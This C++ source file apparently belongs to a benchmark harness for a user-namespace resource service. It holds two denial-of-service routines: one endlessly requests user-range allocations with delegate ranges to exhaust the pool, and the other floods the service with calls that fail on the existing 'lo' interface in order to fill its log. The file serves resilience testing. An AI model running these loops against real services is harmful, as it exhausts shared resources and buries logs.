// SPDX-License-Identifier: LGPL-2.1-or-later
// Attacks by calls that are carried out.
#include <fcntl.h>
#include <sched.h>
#include <unistd.h>

#include "attack.h"
#include "kernel_work.h"
#include "raw_client.h"
#include "requests.h"

namespace nsr::bench {

// Its namespaces are dead as soon as they have their ranges.
void allocate_with_delegates(const Target& target) {
    target.attacker.become_user();
    report_ready(target);
    for (uint64_t i = 0;; ++i) {
        auto namespaces = make_own_user_namespaces(1);
        if (!namespaces) continue;
        UniqueFd connection = connect_somehow(target.socket);
        std::string name = fmt::format(R"("name":"w{}-{}","size":65536,"delegateContainerRanges":16)", getpid(), i);
        send_with(connection.borrow(), namespace_call("AllocateUserRange", name), {namespaces->front().get()});
        receive_some(connection.borrow());
    }
}

// Each network namespace has an interface "lo" already. Such a call writes a line into the log.
void make_calls_fail(const Target& target) {
    target.attacker.join();
    act_as(static_cast<uint32_t>(target.number));
    auto open_own = [](const char* path) { return UniqueFd(open(path, O_RDONLY | O_CLOEXEC)); };
    if (unshare(CLONE_NEWUSER) < 0) _exit(EXIT_FAILURE);
    UniqueFd userns = open_own("/proc/self/ns/user");
    if (unshare(CLONE_NEWNET) < 0) _exit(EXIT_FAILURE);
    UniqueFd network = open_own("/proc/self/ns/net");
    UniqueFd connection = connect_somehow(target.socket);
    std::string self = fmt::format(R"("name":"f{}","size":1,"type":"self")", target.number);
    send_with(connection.borrow(), namespace_call("AllocateUserRange", self), {userns.get()});
    receive_some(connection.borrow());
    report_ready(target);
    const std::string failing =
        namespace_call("AddNetworkToUserNamespace",
                       R"("mode":"veth","networkNamespaceFileDescriptor":1,"namespaceInterfaceName":"lo")");
    for (;;) {
        send_with(connection.borrow(), failing, {userns.get(), network.get()});
        receive_some(connection.borrow());
    }
}

}  // namespace nsr::bench
